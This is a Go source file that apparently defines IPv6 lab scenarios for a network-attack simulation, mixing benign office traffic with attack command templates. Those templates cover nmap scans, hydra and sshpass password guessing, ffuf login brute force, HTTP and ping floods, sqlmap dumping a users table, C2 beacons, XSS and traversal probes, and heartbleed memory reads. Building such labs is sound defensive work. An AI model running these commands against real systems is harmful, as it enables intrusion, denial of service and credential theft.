package lab

import (
	"context"
	"fmt"
	"time"

	"firetower/internal/attack"
)

// overIPv6: attacks with the tools that know it, in networks that have both.
func overIPv6() []Scenario {
	const limit = 50 * time.Second
	scan := family{class: attack.PortScan, play: scanHost}
	fast := flooding.nearby()
	calls := family{class: attack.Bot, play: call}
	web := family{class: attack.WebAttack, play: strike}
	reads := family{class: attack.Heartbleed, play: readMemory}
	all := []Scenario{
		scan.row("nmap-syn", "nmap -6 -n -Pn -sS TIMING --top-ports PORTS VICTIM"),
		scan.row("nmap-connect", "nmap -6 -n -Pn -sT TIMING --top-ports PORTS VICTIM"),
		scan.row("nmap-udp", "nmap -6 -n -Pn -sU -T4 --max-retries 1 --top-ports 60 VICTIM"),
		scan.row("nmap-slow", "nmap -6 -n -Pn -sS --scan-delay DELAYms --max-retries 0 --top-ports 25 VICTIM"),
		scan.row("nc-scan", "nc -6 -nvz -w 1 VICTIM 1-200"),
		scan.by(sweep).row("sweep", "nmap -6 -n -Pn -sS -T4 --max-retries 0 -p ONEPORT CROWD6"),
		guessing("hydra-ssh", "ssh", "hydra -6 -I -t TASKS -l USER -P WORDS ssh://VICTIM"),
		guessing("ssh-loop", "ssh", "while read p; do sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; done < WORDS"),
		guessing("hydra-ftp", "ftp", "hydra -6 -I -t TASKS -l USER -P WORDS ftp://VICTIM"),
		guessing("ffuf-form", "web", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/login -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=USER&password=FUZZ' -fr Wrong", attack.WebAttack),
		flooding.row("slow-headers", "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"),
		fast.row("ab", "timeout SECS ab -q -n 100000 -c WORKERS http://VICTIM/"),
		fast.row("hulk", "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
		fast.row("nping-syn", "timeout SECS nping -6 --tcp --flags syn -p 80 --rate 900 -c 0 -N -q VICTIM"),
		fast.row("nping-udp", "timeout SECS nping -6 --udp -p 53 --data-length 400 --rate 900 -c 0 -N -q VICTIM"),
		fast.row("ping-flood", "timeout SECS ping -6 -q -f -s SIZE VICTIM"),
		calls.row("beacon-http", "SELF beacon -url http://C2/beat -every SHORT -for 45s -jitter JITTER"),
		calls.row("beacon-https", "SELF beacon -url https://C2/beat -every SHORT -for 45s -jitter JITTER"),
		web.row("sqlmap", "sqlmap --batch --flush-session --disable-coloring AGENT --threads THREADS -u 'http://VICTIM/item?id=ID' --dump -T users"),
		web.row("xss", "SELF probe -url http://VICTIM/search?q= -kind xss -count COUNT -every EVERY"),
		web.row("traversal", "SELF probe -url http://VICTIM/file?name= -kind traversal -count COUNT -every EVERY"),
		reads.row("heartbleed", "SELF heartbeat -to VICTIM:PORT -reads READS -size SIZE -every 500ms"),
		reads.row("nmap-heartbleed", "nmap -6 -n -Pn -p PORT --script ssl-heartbleed VICTIM", attack.PortScan),
		benign("life", limit, life6),
		benign("neighbours", limit, func(ctx context.Context, r *Run) error {
			// Everybody looks for everybody, some of whom are gone.
			return r.again(ctx, time.Second, func(ctx context.Context, h *Host, r *Run) {
				h.Shell(ctx, "ping -6 -c 2 -i 0.3 -W 1 %s; ping -6 -c 1 -W 1 %s", r.People[r.IntN(len(r.People))].V6, map6(inside6, r.At(byte(r.between(60, 99)))))
			})
		}),
	}
	for i := range all {
		all[i].Name, all[i].Limit, all[i].V6 = "v6-"+all[i].Name, limit, true
	}
	return all
}

// life6 is office life to the sites that answer over IPv6.
func life6(ctx context.Context, r *Run) error {
	return r.again(ctx, time.Second, func(ctx context.Context, h *Host, r *Run) {
		switch r.IntN(4) {
		case 0, 1:
			r.browse(ctx, h, r.Rand, fmt.Sprintf("%s://[%s]/", r.pick("http", "https"), r.News.V6))
		case 2:
			r.browse(ctx, h, r.Rand, fmt.Sprintf("http://[%s]/", r.Shop.V6))
		default:
			h.Shell(ctx, "sshpass -p '%s' ssh %s %s@%s 'ls -l /usr/bin | head -%d; sleep 2; uptime'", Users[0].Password, sshOptions, Users[0].Name, r.Files.V6, r.between(10, 900))
		}
	})
}
